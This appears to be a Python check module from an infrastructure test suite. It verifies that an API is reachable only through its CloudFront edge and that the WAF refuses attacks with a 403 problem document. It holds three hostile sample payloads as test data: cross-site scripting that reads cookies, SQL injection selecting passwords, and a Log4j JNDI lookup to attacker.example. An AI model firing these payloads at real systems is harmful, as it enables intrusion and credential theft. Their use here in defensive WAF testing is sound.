"""The edge: nobody reaches the API around it, and it refuses attacks."""

from urllib.parse import quote

from ops.service import MAX_ATTEMPTS, Service, fetch_machine_token
from ops.verify.check import UNDO_DRIFT, Check, CheckFailed
from ops.verify.subject import Subject

# Attacks that several rules of AWS's managed groups describe: cross-site scripting, SQL injection, Log4j.
ATTACKS = {
    "cross-site scripting": "<script>alert(document.cookie)</script>",
    "SQL injection": "1' OR '1'='1' UNION SELECT password FROM users--",
    "Log4j": "${jndi:ldap://attacker.example/a}",
}


def run_direct_call(subject: Subject) -> str:
    """The API's own URL refuses a request, even with a token."""
    stack = subject.stack
    direct = Service(stack.api_url, {"authorization": f"Bearer {fetch_machine_token(stack)}"})
    for path in ("/v1/openapi.json", "/v1/"):
        answer = direct.request("GET", path, attempts=MAX_ATTEMPTS)
        if answer.status != 403:
            raise CheckFailed(
                f"The API's own URL answers {answer.describe()} instead of 403.",
                f"Its web ACL must be associated with the stage. {UNDO_DRIFT}",
            )
    return "403 at the API's own URL"


def run_attack(subject: Subject) -> str:
    """Each attack gets 403 and a problem document."""
    for name, text in ATTACKS.items():
        answer = subject.client().request("GET", f"/v1/?q={quote(text)}", attempts=MAX_ATTEMPTS)
        if answer.status != 403:
            raise CheckFailed(
                f"An attack ({name}) is answered {answer.describe()} instead of 403.",
                f"The web ACL of the distribution must have the managed rule groups. {UNDO_DRIFT}",
            )
        # WAF knows no other content type for it than application/json.
        if not isinstance(answer.document, dict) or answer.document.get("status") != 403:
            raise CheckFailed(
                f"An attack ({name}) is refused without a problem document.",
                f"The web ACL must block by label with its own response. {UNDO_DRIFT}",
            )
    return f"{len(ATTACKS)} attacks refused with a problem document"


CHECKS = [
    Check("direct-call", "the API cannot be called around CloudFront", run_direct_call),
    Check("attack", "attacks are refused with a problem document", run_attack),
]
